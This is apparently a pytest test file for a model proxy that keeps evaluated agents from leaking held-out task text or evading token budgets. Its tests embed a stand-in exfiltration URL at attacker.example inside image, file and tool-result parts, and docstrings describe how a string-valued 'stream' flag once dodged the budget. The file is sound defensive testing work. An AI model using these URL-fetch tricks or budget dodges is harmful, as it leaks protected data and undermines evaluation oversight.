"""Issue 33, findings 2, 3, 6 and 7: what the model proxy forwards is an allow-list per API, ``stream`` cannot
dodge the token budget, and a trickling provider is cut at the request deadline. Each test is an agent-like
client through a real :class:`ModelProxy` on its Unix socket to a recording upstream (tests/support/fakemodel.py
or a raw trickling server): what reached the upstream is the ground truth."""

from __future__ import annotations

import base64
import contextlib
import json
import socket
import threading
from pathlib import Path
from typing import Any

import httpx
import pytest

from acx_oci import reasons
from acx_oci.egress.proxy import ModelProxy
from acx_oci.egress.recording import ModelRun
from acx_oci.model import modelapi as ma
from tests.support.fakemodel import FakeModel, SlowStream

MODEL = "acme-large-2026-06"
KEY = "sk-acx-REAL-verifier-key-allowlist"
HOST = f"127.0.0.1:{ma.MODEL_PORT}"
PATHS = {"openai-chat": "/v1/chat/completions", "openai-responses": "/v1/responses",
         "anthropic-messages": "/v1/messages"}
ANTHROPIC = {"anthropic-version": "2023-06-01"}
PNG = "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n").decode()
LEAK = "https://attacker.example/collect?task=held-out+task+text"


@pytest.fixture()
def sock(tmp_path: Path) -> Path:
    return tmp_path / "model.sock"


def entry(fm: FakeModel | str, api: str = "openai-chat", **kw: Any) -> ma.ModelEntry:
    base = fm if isinstance(fm, str) else fm.base_url
    return ma.ModelEntry(id=MODEL, api=api, base_url=base, api_key_env="X", **kw)


def client(sock: Path, timeout: float = 20.0) -> httpx.Client:
    return httpx.Client(transport=httpx.HTTPTransport(uds=str(sock)), base_url=f"http://{HOST}", timeout=timeout)


def chat(*content: Any, **extra: Any) -> dict[str, Any]:
    parts = list(content) or "hi"
    return {"model": MODEL, "messages": [{"role": "user", "content": parts}], **extra}


def responses(*content: Any, **extra: Any) -> dict[str, Any]:
    return {"model": MODEL, "input": [{"role": "user", "content": list(content) or "hi"}], **extra}


def messages(*content: Any, **extra: Any) -> dict[str, Any]:
    return {"model": MODEL, "max_tokens": 50, "messages": [{"role": "user", "content": list(content) or "hi"}],
            **extra}


def send(sock: Path, fm: FakeModel, api: str, body: dict[str, Any], **kw: Any) -> tuple[httpx.Response, Any]:
    proxy = ModelProxy(entry(fm, api, **kw), KEY, sock).start()
    try:
        with client(sock) as c:
            r = c.post(PATHS[api], json=body, headers=ANTHROPIC if api == "anthropic-messages" else {})
    finally:
        run = proxy.stop()
    return r, run


def refused_alone(r: httpx.Response, run: Any, fm: FakeModel, field: str) -> None:
    """400 with one line naming the field, counted as refused, and nothing reached the upstream."""
    assert r.status_code == 400, r.text
    err = r.json()["error"]
    assert err["code"] == reasons.FIELD_REFUSED and field in err["message"] and "\n" not in err["message"], err
    assert fm.requests == [], "the request reached the upstream"
    assert run.record["refused"] == 1 and run.record["requests"] == 0


# --- finding 2: parts that make the provider fetch a URL the agent picks ----------------------------------------

@pytest.mark.parametrize(("api", "body", "field"), [
    ("openai-chat", chat({"type": "text", "text": "see"}, {"type": "image_url", "image_url": {"url": LEAK}}),
     "image_url.url"),
    ("openai-responses", responses({"type": "input_image", "image_url": LEAK}), "image_url"),
    ("openai-responses", responses({"type": "input_file", "file_url": LEAK}), "input_file"),
    ("anthropic-messages", messages({"type": "image", "source": {"type": "url", "url": LEAK}}), "'url'"),
    ("anthropic-messages", messages({"type": "document", "source": {"type": "url", "url": LEAK}}), "'url'"),
    # the same inside a tool result, where an agent's own tool output goes
    ("anthropic-messages", messages({"type": "tool_result", "tool_use_id": "t1", "content": [
        {"type": "image", "source": {"type": "url", "url": LEAK}}]}), "'url'"),
    ("openai-responses", {"model": MODEL, "input": [{"type": "function_call_output", "call_id": "c1", "output": [
        {"type": "input_image", "image_url": LEAK}]}]}, "image_url"),
])
def test_a_part_that_makes_the_provider_fetch_a_url_is_refused(sock: Path, api: str, body: dict[str, Any],
                                                               field: str) -> None:
    """Before: each got 200 and reached the upstream unchanged — the provider's fetcher carries the URL's query
    string (held-out task text) to any host."""
    with FakeModel("ok", key=KEY) as fm:
        r, run = send(sock, fm, api, body)
        refused_alone(r, run, fm, field)


# --- finding 7: provider-side state by id -------------------------------------------------------------------------

@pytest.mark.parametrize(("api", "body", "field"), [
    ("openai-responses", {"model": MODEL, "input": "go on", "previous_response_id": "resp_abc"},
     "previous_response_id"),
    ("openai-responses", {"model": MODEL, "input": "hi", "prompt": {"id": "pmpt_abc", "version": "2"}}, "prompt"),
    ("openai-responses", {"model": MODEL, "input": "hi", "conversation": "conv_abc"}, "conversation"),
    ("openai-responses", {"model": MODEL, "input": [{"type": "item_reference", "id": "msg_abc"}]}, "item_reference"),
    ("openai-responses", responses({"type": "input_image", "file_id": "file-abc"}), "file_id"),
    ("openai-chat", chat({"type": "file", "file": {"file_id": "file-abc"}}), "'file'"),
    ("anthropic-messages", messages({"type": "document", "source": {"type": "file", "file_id": "file_abc"}}),
     "'file'"),
    # and a field the proxy has never heard of: refused until it is reviewed, not forwarded because unlisted
    ("openai-chat", chat(some_future_field={"url": LEAK}), "some_future_field"),
])
def test_provider_side_state_and_unknown_fields_are_refused(sock: Path, api: str, body: dict[str, Any],
                                                            field: str) -> None:
    with FakeModel("ok", key=KEY) as fm:
        r, run = send(sock, fm, api, body)
        refused_alone(r, run, fm, field)


# --- what honest agents send still goes through, unchanged --------------------------------------------------------

TOOL = {"type": "function", "function": {"name": "run", "description": "run a command",
                                         "parameters": {"type": "object", "properties": {"cmd": {"type": "string"}}}}}
HONEST = [
    ("openai-chat", {"model": MODEL, "messages": [
        {"role": "system", "content": "be brief"},
        {"role": "user", "content": [{"type": "text", "text": "what is this"},
                                     {"type": "image_url", "image_url": {"url": PNG, "detail": "low"}}]},
        {"role": "assistant", "content": None, "tool_calls": [
            {"id": "c1", "type": "function", "function": {"name": "run", "arguments": "{\"cmd\": \"ls\"}"}}]},
        {"role": "tool", "tool_call_id": "c1", "content": "a.py b.py"}],
        "temperature": 0.2, "top_p": 0.9, "max_completion_tokens": 64, "stop": ["\n\n"], "seed": 7,
        "tools": [TOOL], "tool_choice": "auto", "response_format": {"type": "text"},
        "stream": True, "stream_options": {"include_usage": True}}),
    ("openai-responses", {"model": MODEL, "instructions": "be brief", "max_output_tokens": 64,
                          "temperature": 0.2, "stream": False, "store": False, "input": [
        {"role": "user", "content": [{"type": "input_text", "text": "what is this"},
                                     {"type": "input_image", "image_url": PNG}]},
        {"type": "function_call", "call_id": "c1", "name": "run", "arguments": "{}"},
        {"type": "function_call_output", "call_id": "c1", "output": "a.py b.py"}],
        "tools": [{"type": "function", "name": "run", "parameters": {"type": "object", "properties": {}}}]}),
    ("anthropic-messages", {"model": MODEL, "max_tokens": 64, "system": "be brief", "top_k": 5,
                            "stop_sequences": ["END"], "metadata": {"user_id": "u1"}, "stream": True, "messages": [
        {"role": "user", "content": [{"type": "text", "text": "what is this"},
                                     {"type": "image", "source": {"type": "base64", "media_type": "image/png",
                                                                  "data": PNG.split(",", 1)[1]}}]},
        {"role": "assistant", "content": [{"type": "tool_use", "id": "t1", "name": "run", "input": {"cmd": "ls"}}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t1", "content": "a.py b.py"}]}],
        "tools": [{"name": "run", "description": "run", "input_schema": {"type": "object"}}]}),
]


@pytest.mark.parametrize(("api", "body"), HONEST, ids=[a for a, _ in HONEST])
def test_what_honest_agents_send_reaches_the_upstream_unchanged(sock: Path, api: str, body: dict[str, Any]) -> None:
    with FakeModel("one two three", key=KEY) as fm:
        r, run = send(sock, fm, api, body)
        assert r.status_code == 200, r.text
        assert [q.json() for q in fm.requests] == [body]
    assert run.record["refused"] == 0 and run.record["outputTokens"] == 3


def test_keys_unknown_inside_a_known_part_are_dropped_not_forwarded(sock: Path) -> None:
    """An SDK echoing an answer back adds inert keys (``annotations``, ``audio``); they are not forwarded."""
    body = {"model": MODEL, "messages": [
        {"role": "user", "content": "hi"},
        {"role": "assistant", "content": "hello", "annotations": [], "audio": None, "x_fetch": LEAK},
        {"role": "user", "content": [{"type": "text", "text": "again", "x_fetch": LEAK}]}]}
    with FakeModel("ok", key=KEY) as fm:
        r, run = send(sock, fm, "openai-chat", body)
        assert r.status_code == 200, r.text
        sent = fm.requests[0].json()
    assert LEAK not in json.dumps(sent)
    assert sent["messages"][1] == {"role": "assistant", "content": "hello"}
    forwarded = next(e for e in run.transcript["exchanges"] if not e.get("probe"))["forwarded"]
    assert "bodyB64" in forwarded  # the transcript holds both what came in and what went up


# --- finding 3: the token budget ---------------------------------------------------------------------------------

@pytest.mark.parametrize("stream", ["true", 1, 0, "false", {}])
def test_stream_must_be_a_json_boolean(sock: Path, stream: Any) -> None:
    """Before: ``"stream": "true"`` was forwarded without asking for usage; a server that coerces it streamed an
    answer the proxy counted as 0 tokens (20 of 20 answers under a 300-token budget)."""
    with FakeModel("ok", key=KEY) as fm:
        r, run = send(sock, fm, "openai-chat", chat(stream=stream), max_tokens_per_game=300)
        refused_alone(r, run, fm, "stream")


@pytest.mark.parametrize("stream", [True, False], ids=["stream", "whole"])
@pytest.mark.parametrize("api", list(PATHS))
def test_an_answer_without_usage_is_counted_from_its_text_and_the_budget_holds(sock: Path, api: str,
                                                                              stream: bool) -> None:
    """An upstream that reports no usage (or 0): the answer's own text is counted, never 0 for a non-empty answer,
    and the game's token budget stops the agent. Before: every answer counted 0 and the budget never ran out."""
    body = {"openai-chat": chat(stream=stream), "openai-responses": {"model": MODEL, "input": "hi", "stream": stream},
            "anthropic-messages": messages(stream=stream)}[api]
    answer = "word " * 40
    with FakeModel(answer, key=KEY, usage=False) as fm:
        proxy = ModelProxy(entry(fm, api, max_tokens_per_game=300), KEY, sock).start()
        try:
            with client(sock) as c:
                statuses = []
                for _ in range(20):
                    r = c.post(PATHS[api], json=body, headers=ANTHROPIC if api == "anthropic-messages" else {})
                    statuses.append(r.status_code)
                    if r.status_code == 429:
                        break
                    assert "word" in r.text
        finally:
            run = proxy.stop()
    assert statuses[-1] == 429, statuses
    assert len(statuses) < 20
    forwarded = [e for e in run.transcript["exchanges"] if not e.get("refused") and not e.get("probe")]
    assert all(e["usage"]["output"] >= 40 and e["usage"]["input"] > 0 for e in forwarded), \
        [e["usage"] for e in forwarded]


def test_a_stream_cut_before_its_closing_usage_counts_what_was_said(sock: Path) -> None:
    """Anthropic's first event says 1 output token; the count comes at the end. A stream cut at the deadline after
    three words counts those words (estimated), not the opening 1."""
    release = threading.Event()
    slow = SlowStream(3, 20.0, release)
    with FakeModel("alpha beta gamma delta epsilon", key=KEY, slow_stream=slow) as fm:
        proxy = ModelProxy(entry(fm, "anthropic-messages"), KEY, sock, request_seconds=1.0).start()
        try:
            got = b""
            # the relay ends where the answer was cut: the client sees an incomplete body
            with client(sock) as c, c.stream("POST", PATHS["anthropic-messages"], json=messages(stream=True),
                                             headers=ANTHROPIC) as r, contextlib.suppress(httpx.RemoteProtocolError):
                for chunk in r.iter_raw():
                    got += chunk
            assert b"gamma" in got and b"epsilon" not in got
        finally:
            release.set()
            run = proxy.stop()
    assert not run.upstream_failed  # the provider answers the probe: a long answer is the agent's
    assert run.record["outputTokens"] >= 5, run.record


def test_a_null_stream_is_not_streaming_and_passes(sock: Path) -> None:
    with FakeModel("one two", key=KEY) as fm:
        r, run = send(sock, fm, "openai-chat", chat(stream=None))
        assert r.status_code == 200 and r.json()["choices"][0]["message"]["content"] == "one two"
    assert run.record["outputTokens"] == 2


def test_a_streamed_chat_always_asks_for_usage(sock: Path) -> None:
    with FakeModel("one two", key=KEY) as fm:
        r, run = send(sock, fm, "openai-chat", chat(stream=True, stream_options={"include_usage": False}))
        assert r.status_code == 200
        assert fm.requests[0].json()["stream_options"] == {"include_usage": True}
    assert run.record["outputTokens"] == 2


# --- finding 6: a trickling provider -----------------------------------------------------------------------------

class _Trickler(threading.Thread):
    """An upstream that answers every request one byte every 0.1 s (a status line, then headers, then a body),
    finishing a valid answer only after ``seconds``: each read returns, so a per-read timeout never fires."""

    def __init__(self, seconds: float) -> None:
        super().__init__(daemon=True)
        self.seconds = seconds
        self.srv = socket.socket()
        self.srv.bind(("127.0.0.1", 0))
        self.srv.listen(8)
        self.port = self.srv.getsockname()[1]
        self.stopping = threading.Event()
        self.conns = 0

    def run(self) -> None:
        while not self.stopping.is_set():
            try:
                c, _ = self.srv.accept()
            except OSError:
                return
            self.conns += 1
            threading.Thread(target=self.one, args=(c,), daemon=True).start()

    def one(self, c: socket.socket) -> None:
        body = json.dumps({"choices": [{"message": {"content": "late"}}]}).encode()
        head = b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\nconnection: close\r\nx-pad: "
        tail = b"\r\ncontent-length: " + str(len(body)).encode() + b"\r\n\r\n" + body
        answer = head + b"." * max(0, int(self.seconds * 10) - len(head) - len(tail)) + tail
        with contextlib.suppress(OSError), c:
            c.recv(65536)
            for i in range(len(answer)):
                if self.stopping.wait(0.1):
                    return
                c.sendall(answer[i:i + 1])

    def stop(self) -> None:
        self.stopping.set()
        self.srv.close()


def _through_a_trickler(sock: Path, *, request_seconds: float = ma.REQUEST_SECONDS,
                        game_seconds: float | None = None) -> tuple[_Trickler, httpx.Response, ModelRun]:
    """One chat request through a proxy with these deadlines to a provider trickling its answer for 8 s: the
    trickler, the agent's answer and the proxy's run."""
    trickler = _Trickler(seconds=8.0)
    trickler.start()
    try:
        proxy = ModelProxy(entry(f"http://127.0.0.1:{trickler.port}/v1"), KEY, sock, request_seconds=request_seconds,
                           game_seconds=game_seconds).start()
        try:
            with client(sock, timeout=60) as c:
                r = c.post(PATHS["openai-chat"], json=chat())
        finally:
            run = proxy.stop()
    finally:
        trickler.stop()
    return trickler, r, run


def test_a_trickling_provider_is_cut_at_the_deadline_and_is_a_lane_error(sock: Path) -> None:
    """Before: the upstream call and the proxy's own probe had only per-read timeouts; a provider trickling bytes
    held the agent's request (and then the probe) until it finished, and the game ended as the agent's timeout.
    Now both are cut at the request deadline and the game is the provider's failure (a lane error, unrated)."""
    trickler, r, run = _through_a_trickler(sock, request_seconds=1.0)
    assert r.status_code == 502, r.text
    assert run.upstream_failed, "a trickling provider was charged to the agent"
    exchanges = run.transcript["exchanges"]
    assert {bool(e.get("probe")): e.get("upstreamError") for e in exchanges} == {False: "deadline", True: "deadline"}
    assert trickler.conns == 2


def test_within_a_game_the_deadline_leaves_time_to_probe_before_the_game_ends(sock: Path) -> None:
    """A game's time limit (60 s by default) is shorter than the request deadline (300 s): a provider that stalls
    would outlast the game, which then ended as the agent's timeout. With the game's limit given, the request is
    cut at five sixths of what is left and the probe fits in the rest: the provider's failure, decided in time."""
    _, r, run = _through_a_trickler(sock, game_seconds=1.5)
    assert r.status_code == 502 and run.upstream_failed
    assert {bool(e.get("probe")): e.get("upstreamError") for e in run.transcript["exchanges"]} == \
        {False: "deadline", True: "deadline"}


def test_a_provider_that_answers_within_the_deadline_is_not_cut(sock: Path) -> None:
    with FakeModel("fine", key=KEY, latency=0.2) as fm:
        r, run = send(sock, fm, "openai-chat", chat())
        assert r.status_code == 200 and "fine" in r.text
    assert not run.upstream_failed


# --- the real SDKs, multi-turn, answers echoed back as agents do ---------------------------------------------------

_SDK_PRELUDE = """
import json
try:
    import httpx2 as httpx  # what the sandbox's SDKs are built on
except ImportError:
    import httpx
http = httpx.Client(transport=httpx.HTTPTransport(uds=SOCK))
"""
SDK_TURNS = {
    "openai-chat": """
import openai
c = openai.OpenAI(base_url="http://HOST/v1", api_key="acx-sandbox", http_client=http, max_retries=0)
tools = [{"type": "function", "function": {"name": "run", "parameters": {"type": "object", "properties": {}}}}]
msgs = [{"role": "system", "content": "be brief"}, {"role": "user", "content": "hello"}]
r = c.chat.completions.create(model=MODEL, messages=msgs, tools=tools, temperature=0, max_tokens=50, seed=1)
msgs.append(r.choices[0].message)
msgs.append({"role": "user", "content": [{"type": "text", "text": "and this"},
                                         {"type": "image_url", "image_url": {"url": PNG}}]})
s = c.chat.completions.create(model=MODEL, messages=msgs, tools=tools, stream=True,
                              stream_options={"include_usage": True})
print(json.dumps([r.choices[0].message.content, "".join(ch.choices[0].delta.content or "" for ch in s if ch.choices)]))
""",
    "openai-responses": """
import openai
c = openai.OpenAI(base_url="http://HOST/v1", api_key="acx-sandbox", http_client=http, max_retries=0)
items = [{"role": "user", "content": "hello"}]
r = c.responses.create(model=MODEL, instructions="be brief", input=items, max_output_tokens=50, store=False)
items += [o.model_dump(exclude_none=True) for o in r.output]
items.append({"role": "user", "content": [{"type": "input_text", "text": "and this"},
                                          {"type": "input_image", "image_url": PNG}]})
with c.responses.stream(model=MODEL, input=items) as st:
    text = "".join(e.delta for e in st if e.type == "response.output_text.delta")
print(json.dumps([r.output_text, text]))
""",
    "anthropic-messages": """
import anthropic
c = anthropic.Anthropic(base_url="http://HOST", api_key="acx-sandbox", http_client=http, max_retries=0)
msgs = [{"role": "user", "content": "hello"}]
r = c.messages.create(model=MODEL, max_tokens=50, system="be brief", messages=msgs, cache_control={"type": "ephemeral"},
                      tools=[{"name": "run", "input_schema": {"type": "object"}}])
msgs.append({"role": "assistant", "content": r.content})
msgs.append({"role": "user", "content": [
    {"type": "text", "text": "and this"},
    {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": PNG.split(",", 1)[1]}}]})
with c.messages.stream(model=MODEL, max_tokens=50, messages=msgs) as st:
    text = "".join(st.text_stream)
print(json.dumps([r.content[0].text, text]))
""",
}


@pytest.mark.parametrize("api", list(SDK_TURNS))
def test_the_real_sdks_multi_turn_with_answers_echoed_back_pass(sock: Path, api: str) -> None:
    """Agents append the SDK's answer object to the next request (with its inert extras: ``refusal``,
    ``annotations``, ``citations``): two turns, one streamed, with tools and an inline image, all answered."""
    from tests.support.sdk import run_sdk

    code = (_SDK_PRELUDE.replace("SOCK", repr(str(sock))) + SDK_TURNS[api].replace("HOST", HOST)
            .replace("MODEL", repr(MODEL)).replace("PNG", repr(PNG)))
    with FakeModel("one two three", key=KEY) as fm:
        proxy = ModelProxy(entry(fm, api), KEY, sock).start()
        try:
            got = run_sdk(code)
        finally:
            run = proxy.stop()
        assert len(fm.requests) == 2
    assert got == ["one two three", "one two three"]
    assert run.record["refused"] == 0 and run.record["requests"] == 2
